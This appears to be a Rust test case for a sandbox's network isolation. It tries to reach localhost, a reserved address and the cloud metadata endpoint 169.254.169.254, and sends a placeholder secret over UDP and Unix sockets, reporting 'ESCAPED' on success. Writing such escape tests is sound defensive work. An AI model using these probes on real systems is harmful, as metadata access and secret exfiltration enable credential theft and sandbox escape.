// attack: Connects by TCP, UDP and Unix socket.
// needs: network=none
use std::net::{TcpStream, UdpSocket};
use std::os::unix::net::{UnixDatagram, UnixStream};
use std::time::Duration;

fn main() {
    for address in ["127.0.0.1:@PORT@", "192.0.2.1:443", "169.254.169.254:80"] {
        if TcpStream::connect_timeout(&address.parse().unwrap(), Duration::from_secs(1)).is_ok() {
            println!("ESCAPED reached {}", address);
        }
    }
    if let Ok(socket) = UdpSocket::bind("0.0.0.0:0") {
        let _ = socket.send_to(b"@SECRET@", "127.0.0.1:@UDP_PORT@");
    }
    if UnixStream::connect("@UNIX_SOCKET@").is_ok() {
        println!("ESCAPED reached the Unix socket");
    }
    if let Ok((one, _)) = UnixDatagram::pair() {
        if one.send_to(b"@SECRET@", "@UNIX_SOCKET@").is_ok() {
            println!("ESCAPED sent to the Unix socket");
        }
    }
    println!("tried");
}
